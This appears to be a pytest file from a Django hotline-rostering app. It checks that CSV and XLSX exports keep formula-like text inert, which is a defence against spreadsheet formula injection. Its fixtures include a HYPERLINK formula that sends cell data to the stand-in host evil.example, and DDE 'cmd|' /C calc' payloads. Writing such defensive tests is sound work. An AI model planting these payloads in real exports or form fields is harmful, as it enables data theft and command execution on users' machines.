"""Every CSV and XLSX export keeps text that looks like a formula as text (OWASP CSV
injection): a name typed as =HYPERLINK(…) is shown, never run, when the file is opened."""

import csv
import datetime
import io

from django.utils import timezone
from openpyxl import Workbook, load_workbook

from hotline.exports import csv_row, sheet_name, xlsx_bytes
from hotline.models import Line, Unit
from roster.models import Agent

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def give_agents_formula_names():
    for n, agent in enumerate(Agent.objects.order_by("pk")):
        agent.full_name = NAMES[n % len(NAMES)]
        agent.save(update_fields=["full_name"])


def assert_inert(cell):
    assert cell.data_type == "s", cell.coordinate
    assert cell.quotePrefix, cell.coordinate


def test_text_is_neutralised_and_numbers_stay_numbers():
    assert csv_row(["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "Nguyễn Văn An", -5, 2.5, None]) == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
        "Nguyễn Văn An",
        -5,
        2.5,
        None,
    ]
    book = Workbook()
    book.active.append(["=1+1", -5, datetime.date(2026, 3, 1), "Nguyễn Văn An"])
    formula, negative, day, name = next(load_workbook(io.BytesIO(xlsx_bytes(book))).active.iter_rows())
    assert (formula.value, formula.data_type, formula.quotePrefix) == ("=1+1", "s", True)
    assert (negative.value, negative.data_type) == (-5, "n")
    assert day.is_date
    assert (name.value, name.quotePrefix) == ("Nguyễn Văn An", False)


def test_sheet_names_keep_their_diacritics_within_excels_limits():
    assert sheet_name("Lịch trực nhánh 2") == "Lịch trực nhánh 2"
    assert sheet_name("Báo cáo 12/2026: [nhánh*2?]") == "Báo cáo 12-2026- -nhánh-2--"
    assert len(sheet_name("Lịch trực tổng đài dịch vụ công 1022 nhánh 2")) == 31
    book = Workbook()
    book.active.title = sheet_name("'Tháng 12\\2026'")
    assert load_workbook(io.BytesIO(xlsx_bytes(book))).active.title == "Tháng 12-2026"


def test_the_hours_csv_shows_formula_names_as_text(login):
    give_agents_formula_names()
    Unit.objects.update(name="=cmd|' /C calc'!A0")
    today = timezone.localdate()
    response = login("director").get(f"/reports/hours/?start={today}&end={today}&format=csv")

    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
    assert rows
    for name, _phone, unit, shifts, *hours in rows:
        assert name.startswith("'") and name[1:] in NAMES
        assert unit == "'=cmd|' /C calc'!A0"
        assert int(shifts) >= 0 and all(float(h.replace(",", ".")) >= 0 for h in hours)


def test_the_roster_xlsx_shows_formula_names_as_text(login):
    Agent.objects.update(full_name=NAMES[0])
    line = Line.objects.get(digit="2")
    Unit.objects.filter(pk=line.unit_id).update(name="@SUM(1)")
    start = timezone.localdate()
    end = start + datetime.timedelta(days=6)
    response = login("director").get(f"/lines/{line.pk}/roster/xlsx/?start={start}&end={end}")

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].value == "@SUM(1)"
    assert_inert(sheet["A2"])
    days = [row for row in sheet.iter_rows() if isinstance(row[1].value, datetime.datetime)]
    names = [cell for row in days for cell in row[2:] if cell.value]
    assert names
    for cell in names:
        assert cell.value.startswith(NAMES[0])
        assert_inert(cell)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_monthly_calls_report_xlsx_shows_formula_labels_as_text(login):
    line = Line.objects.get(digit="2")
    line.label = '=HYPERLINK("http://evil.example","Nhánh 2")'
    line.save()
    Unit.objects.filter(pk=line.unit_id).update(name="+84 Sở Y tế")
    today = timezone.localdate()
    response = login("operator").get(f"/reports/calls/?month={today:%Y-%m}&format=xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(row for row in sheet.iter_rows() if row[1].value == "2")
    label, unit = row[2], row[3]
    assert label.value == '=HYPERLINK("http://evil.example","Nhánh 2")'
    assert unit.value == "+84 Sở Y tế"
    assert_inert(label)
    assert_inert(unit)
    assert row[4].data_type == "n"  # calls offered stay a number
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
